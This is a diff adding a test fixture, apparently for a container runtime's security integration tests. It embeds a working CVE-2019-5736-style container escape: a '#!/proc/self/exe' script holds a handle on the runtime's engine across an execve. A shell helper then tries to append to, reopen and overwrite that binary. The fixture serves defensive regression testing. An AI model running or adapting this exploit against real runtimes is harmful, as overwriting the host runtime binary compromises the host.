@@ -1,0 +1,34 @@
+// The CVE-2019-5736-class attack on the runtime's engine, shared by the root
+// (integration/security-engine) and the rootless (integration/rootless) tests:
+// a container whose entrypoint starts with `#!/proc/self/exe` makes the kernel
+// run the init's own executable (the runtime's engine) as the container's
+// process, which reads the rest as JavaScript. It keeps a handle on the engine
+// across an execve of sh, waits until no runtime process executes the engine any
+// more (ETXTBSY gone), and reopens it for writing: append, read-write, write-only.
+export const ATTACK_EXE = `#!/proc/self/exe
+const fs = require('fs');
+const { dlopen, ptr } = require('bun:ffi');
+const c = dlopen('libc.so.6', {
+  open: { args: ['ptr', 'i32'], returns: 'i32' },
+  execve: { args: ['ptr', 'ptr', 'ptr'], returns: 'i32' },
+}).symbols;
+try { console.log('exe on fs 0x' + fs.statfsSync('/proc/self/exe').type.toString(16)); } catch (e) { console.log('exe statfs: ' + e.code); }
+for (const [mode, flags] of [['append', 'a'], ['rdwr', 'r+']]) {
+  try { fs.closeSync(fs.openSync('/proc/self/exe', flags)); console.log('self-exe ' + mode + ': OPENED'); }
+  catch (e) { console.log('self-exe ' + mode + ': ' + e.code); }
+}
+const str = (s) => Buffer.from(s + '\\0');
+const fd = c.open(ptr(str('/proc/self/exe')), 0); // no O_CLOEXEC: it survives the execve
+const args = ['sh', '/reopen', String(fd)].map(str);
+const argv = new BigUint64Array([...args.map((b) => BigInt(ptr(b))), 0n]);
+c.execve(ptr(str('/bin/sh')), ptr(argv), ptr(new BigUint64Array([0n])));
+console.log('execve failed');
+`;
+export const REOPEN = `fd=$1
+i=0
+while [ $i -lt 400 ] && (exec 9<>/proc/self/fd/$fd) 2>&1 | grep -q busy; do sleep 0.05; i=$((i+1)); done
+echo "waited $i"
+if (echo pwned >>/proc/self/fd/$fd) 2>/tmp/e; then echo "append: WROTE"; else echo "append: $(cat /tmp/e)"; fi
+if (exec 9<>/proc/self/fd/$fd) 2>/tmp/e; then echo "rdwr: OPENED"; else echo "rdwr: $(cat /tmp/e)"; fi
+if dd if=/dev/zero of=/proc/self/fd/$fd bs=1 count=1 conv=notrunc 2>/tmp/e; then echo "wronly: WROTE"; else echo "wronly: $(cat /tmp/e)"; fi
+`;
